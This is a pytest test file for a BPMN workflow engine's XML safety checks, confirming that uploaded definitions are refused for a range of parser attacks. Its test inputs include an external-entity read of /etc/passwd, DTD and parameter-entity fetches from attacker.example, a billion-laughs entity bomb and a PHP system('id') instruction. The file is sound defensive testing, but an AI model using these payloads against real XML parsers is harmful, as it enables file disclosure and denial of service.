import pytest
from SpiffWorkflow.spiff.parser.process import SpiffBpmnParser

from engine.errors import DefinitionRejected, PayloadTooLarge
from engine.xml_safety import (
    MAX_ATTRIBUTE_BYTES,
    MAX_DEFINITION_BYTES,
    MAX_DEPTH,
    check_and_parse,
    element_line,
)

NORMAL_BPMN = b"""<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
    id="defs" targetNamespace="http://huiqian.dev/test">
  <!-- \xe4\xbc\x9a\xe7\xad\xbe: a comment in Chinese -->
  <bpmn:process id="leave" isExecutable="true">
    <bpmn:startEvent id="start"><bpmn:outgoing>f1</bpmn:outgoing></bpmn:startEvent>
    <bpmn:sequenceFlow id="f1" sourceRef="start" targetRef="end"/>
    <bpmn:endEvent id="end"><bpmn:incoming>f1</bpmn:incoming></bpmn:endEvent>
  </bpmn:process>
</bpmn:definitions>
"""


def _rejection(data: bytes) -> DefinitionRejected:
    with pytest.raises(DefinitionRejected) as caught:
        check_and_parse(data)
    return caught.value


def test_normal_bpmn_parses_and_spiff_accepts_the_root() -> None:
    root = check_and_parse(NORMAL_BPMN, filename="leave.bpmn")
    parser = SpiffBpmnParser()
    parser.add_bpmn_xml(root, "leave.bpmn")
    assert parser.get_spec("leave").name == "leave"


def test_element_line_finds_an_element_by_id() -> None:
    root = check_and_parse(NORMAL_BPMN)
    assert element_line(root, "start") == 6
    assert element_line(root, "end") == 8
    assert element_line(root, "missing") is None


def test_external_entity_file_read_is_refused_without_reading_the_file() -> None:
    error = _rejection(
        b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n<x>&e;</x>'
    )
    assert "DOCTYPE" in error.detail
    assert "root:" not in error.detail and "root:" not in repr(error.extra)


def test_external_dtd_is_refused() -> None:
    error = _rejection(b'<!DOCTYPE x SYSTEM "http://attacker.example/evil.dtd"><x/>')
    assert "DOCTYPE" in error.detail


def test_parameter_entities_are_refused() -> None:
    error = _rejection(
        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><x/>'
    )
    assert "DOCTYPE" in error.detail


def test_billion_laughs_is_refused_before_any_expansion() -> None:
    entities = "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    bomb = f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY l0 "lol">{entities}]><x>&l9;</x>'
    error = _rejection(bomb.encode())
    assert "entities are not allowed" in error.detail
    assert error.__cause__ is None  # refused by the prolog scan, lxml never ran


def test_doctype_after_a_comment_is_still_refused() -> None:
    assert "DOCTYPE" in _rejection(b"<!-- hi --><!DOCTYPE x><x/>").detail


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><x/>',
        b"<x><?php system('id'); ?></x>",
        b"<x/><?trailing instruction?>",
    ],
)
def test_processing_instructions_are_refused(data: bytes) -> None:
    assert "processing instruction" in _rejection(data).detail


def test_file_over_the_limit_is_payload_too_large() -> None:
    data = b"<x>" + b"a" * (6 * 1024 * 1024) + b"</x>"
    with pytest.raises(PayloadTooLarge) as caught:
        check_and_parse(data)
    assert caught.value.extra["limit"] == MAX_DEFINITION_BYTES


def test_size_is_checked_before_content() -> None:
    with pytest.raises(PayloadTooLarge):
        check_and_parse(b"<!DOCTYPE x><x/>", max_bytes=10)


def test_malformed_xml_reports_line_and_column() -> None:
    error = _rejection(b'<?xml version="1.0"?>\n<a>\n  <b>\n</a>\n')
    assert error.extra["line"] == 4
    assert isinstance(error.extra["column"], int)
    assert "mismatch" in error.detail


@pytest.mark.parametrize(
    "data",
    [
        "<x>\u00e9</x>".encode("latin-1"),
        "<x/>".encode("utf-16"),
        b'<?xml version="1.0" encoding="UTF-7"?><x>+ADw-</x>',
    ],
)
def test_non_utf8_input_is_refused(data: bytes) -> None:
    assert "UTF-8" in _rejection(data).detail


def test_nesting_at_the_limit_passes_and_beyond_it_is_refused() -> None:
    assert check_and_parse(b"<a>" * MAX_DEPTH + b"</a>" * MAX_DEPTH).tag == "a"
    deep = MAX_DEPTH + 1
    assert "nested deeper" in _rejection(b"<a>" * deep + b"</a>" * deep).detail


def test_very_deep_nesting_is_refused() -> None:
    assert "nested deeper" in _rejection(b"<a>" * 100_000 + b"</a>" * 100_000).detail


def test_huge_attribute_value_is_refused() -> None:
    data = b'<x>\n<y name="' + b"v" * (MAX_ATTRIBUTE_BYTES + 1) + b'"/></x>'
    error = _rejection(data)
    assert "'name'" in error.detail
    assert error.extra["line"] == 2


def test_attribute_at_the_limit_passes() -> None:
    root = check_and_parse(b'<x name="' + b"v" * MAX_ATTRIBUTE_BYTES + b'"/>')
    assert len(root.get("name")) == MAX_ATTRIBUTE_BYTES
